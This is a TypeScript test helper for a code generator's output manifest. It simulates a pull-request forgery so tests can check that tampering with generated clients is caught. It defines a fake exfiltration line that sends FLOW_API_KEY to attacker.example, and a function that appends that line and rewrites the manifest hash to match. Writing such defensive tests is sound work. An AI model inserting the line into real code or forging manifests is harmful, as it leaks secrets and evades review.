import { cp, readFile, writeFile } from "node:fs/promises";
import path from "node:path";
import { generate } from "../../src/api/generate.js";
import {
  hashContent,
  MANIFEST_PATH,
  type OutputManifest,
} from "../../src/manifest/output-manifest.js";
import { REPO_ROOT, sharedProject, tempProject, writeFiles } from "./temp-dir.js";

/** What the forgery adds to a client: a line that sends the key elsewhere. */
const INJECTED = 'fetch("https://attacker.example/" + process.env.FLOW_API_KEY);\n';

/** The repo's flows the author's project holds. */
const FLOWS = ["@acme/qa.json", "@acme/search.json"];

/**
 * Two of the repo's flows, generated with the default render cache: the author's machine. Made
 * once for the file; tests read it, and work on copies.
 */
export const authorsProject = sharedProject(async (dir) => {
  await writeFiles(dir, { "package.json": { name: "consumer", private: true } });
  for (const flow of FLOWS)
    await cp(path.join(REPO_ROOT, "specs", flow), path.join(dir, "specs", flow));
  const result = await generate({ cwd: dir, config: false });
  if (!result.ok) throw new Error(JSON.stringify(result.issues));
});

/** What a reviewer's machine or CI checks out: the committed files only (no node_modules, so no render cache). */
export async function freshClone(from: string): Promise<string> {
  const dir = await tempProject({});
  for (const name of ["package.json", "specs", "generated"])
    await cp(path.join(from, name), path.join(dir, name), { recursive: true });
  return dir;
}

/** A pull request's forgery: a line added to a client, and that file's new hash put into the manifest. */
export async function injectWithForgedManifest(dir: string): Promise<void> {
  const client = path.join(dir, "generated/@acme/qa.ts");
  const injected = `${await readFile(client, "utf8")}${INJECTED}`;
  await writeFile(client, injected);
  const manifestFile = path.join(dir, "generated", MANIFEST_PATH);
  const manifest = JSON.parse(await readFile(manifestFile, "utf8")) as OutputManifest;
  const output = hashContent(injected);
  const entry = { inputs: manifest.files["@acme/qa.ts"]?.inputs ?? "", output };
  const files = { ...manifest.files, "@acme/qa.ts": entry };
  await writeFile(manifestFile, `${JSON.stringify({ ...manifest, files }, null, 2)}\n`);
}
